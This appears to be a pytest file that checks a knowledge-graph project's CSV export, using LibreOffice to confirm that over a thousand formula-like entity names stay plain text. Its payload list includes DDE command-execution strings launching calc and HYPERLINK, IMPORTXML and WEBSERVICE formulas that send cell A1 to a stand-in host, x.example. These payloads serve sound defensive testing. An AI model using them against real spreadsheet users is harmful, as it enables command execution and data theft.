"""CSV opened in LibreOffice: a thousand names that would like to be formulas are text in it."""

import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from dataclasses import replace
from itertools import product
from pathlib import Path

import pytest

from graph.export.csv import write_csv
from graph.export.view import view_of
from graph.records import KnowledgeGraph

OFFICE = shutil.which("soffice")
BEFORE = ("", " ", "\t", "\u00a0", "\u3000", "\ufeff", "'", '"', "\u200b")
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%")
FORMULAS = (
    "1+1",
    'HYPERLINK("http://x.example/"&A1,"open")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)*cmd|'/C calc'!A0",
    'IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    'WEBSERVICE("http://x.example/"&A1)',
    "2;3",
    "A1,B2",
    'DDE("cmd";"/C calc";"x")',
    "-1",
    "{1}",
    "1E5",
)
UTF8 = "CSV:44,34,76,1"  # its filter with comma, double quote, UTF-8
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


@pytest.mark.slow
@pytest.mark.skipif(OFFICE is None, reason="needs LibreOffice Calc")
def test_a_thousand_formulas_are_text_in_libreoffice(council: KnowledgeGraph, tmp_path: Path) -> None:
    names = [f"{before}{start}{rest}" for before, start, rest in product(BEFORE, STARTS, FORMULAS)]
    assert len(names) > 1000
    first, *_ = council.entities
    people = tuple(replace(first, id=f"p{number}", name=name) for number, name in enumerate(names))
    write_csv(view_of(replace(council, entities=(*council.entities, *people))), tmp_path)
    shown, formulas = opened(tmp_path / "entities.csv")
    assert formulas == 0
    assert [name for name in names if plain(name) not in shown] == []


@pytest.mark.slow
@pytest.mark.skipif(OFFICE is None, reason="needs LibreOffice Calc")
def test_libreoffice_takes_what_is_not_guarded_for_a_formula(tmp_path: Path) -> None:
    (tmp_path / "bare.csv").write_text("Id,name\n1,=1+1\n", encoding="utf-8")
    assert opened(tmp_path / "bare.csv")[1] == 1


def opened(path: Path) -> tuple[set[str], int]:
    """Return what LibreOffice shows in the cells of a file, and how many of them are formulas."""
    subprocess.run(
        [
            str(OFFICE),
            "--headless",
            f"--infilter={UTF8}",
            "--convert-to",
            "fods",
            "--outdir",
            path.parent,
            path,
        ],
        env={**os.environ, "HOME": str(path.parent)},
        check=True,
        capture_output=True,
    )
    sheet = ET.parse(path.with_suffix(".fods"))  # noqa: S314 - what was just made
    cells = list(sheet.iter(f"{TABLE}table-cell"))
    formulas = sum(f"{TABLE}formula" in cell.attrib for cell in cells)
    return {plain("".join(cell.itertext())) for cell in cells}, formulas


def plain(text: str) -> str:
    """Return a text without blanks, and without the apostrophe that makes it one."""
    return "".join(text.split()).lstrip("'")
